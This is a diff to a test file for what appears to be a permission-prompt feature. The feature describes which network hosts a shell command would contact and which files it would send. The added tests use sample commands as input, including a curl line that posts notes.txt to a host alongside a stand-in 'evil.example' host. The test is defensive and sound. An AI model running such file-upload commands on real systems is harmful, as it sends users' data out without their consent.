@@ -71,6 +71,10 @@ test('what a command would send, and where, is told as far as its words say it',
     '  would send notes.txt to paste.example.com',
   ]);
   expect(told('curl https://a.example')).toEqual(['This needs your yes: it wants the network', '  wants to use the network: a.example']);
+  expect(told('curl -d @notes.txt https://a.example evil.example')[1]).toBe(
+    '  would send notes.txt to a.example; perhaps more, or to others',
+  );
+  expect(told('make deploy; curl https://a.example')[1]).toBe('  wants to use the network: a.example, perhaps others');
 });
 
 test('nothing in it can draw on the terminal or hide', () => {
